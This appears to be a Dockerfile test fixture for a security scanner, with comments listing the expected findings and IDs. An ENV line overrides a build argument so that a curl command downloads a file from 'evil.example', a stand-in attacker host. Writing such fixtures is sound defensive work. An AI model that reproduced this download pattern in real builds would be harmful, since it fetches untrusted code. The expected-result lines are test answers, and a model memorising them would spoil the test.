FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
ARG HOST=good.example
ENV HOST=evil.example
RUN curl -o /z https://$HOST/f
USER app
# expect: download 4 high "curl fetches https://evil.example/f"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-ac221b519d VR501-e064bac1a6
